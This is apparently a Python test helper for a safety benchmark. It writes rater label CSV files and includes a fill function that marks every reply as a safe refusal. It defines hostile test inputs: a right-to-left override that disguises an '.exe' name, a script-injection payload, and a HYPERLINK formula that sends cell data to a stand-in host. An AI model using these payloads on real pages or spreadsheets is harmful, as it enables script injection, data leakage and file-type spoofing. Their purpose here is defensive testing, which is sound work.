"""Files of labels as raters fill them in."""

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

from convsafe.benchmark.label_files import COLUMNS

RTL = "שלום \u202egnp.exe\u202c مرحبا"
ATTACK = "</script><script>document.title='owned'</script><img src='{url}' onerror='alert(1)'>"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open"), then\n"quoted" text'
Fill = Callable[[int, dict[str, str]], dict[str, str]]


def rows_of(path: Path) -> list[dict[str, str]]:
    """Return the rows of a CSV file."""
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def rated(folder: Path, target: Path, fill: Fill, encoding: str = "utf-8", **form: Any) -> Path:
    """Write a rater's file: labels.csv with some fields filled in."""
    rows = [row | fill(number, row) for number, row in enumerate(rows_of(folder / "labels.csv"))]
    out = io.StringIO(newline="")
    table = csv.DictWriter(out, COLUMNS, **form)
    table.writeheader()
    table.writerows(rows)
    target.write_bytes(out.getvalue().encode(encoding))
    return target


def refused(_: int, __: dict[str, str]) -> dict[str, str]:
    """Call every reply a refusal and safe."""
    return {"stance": "refusal", "unsafe": "no"}
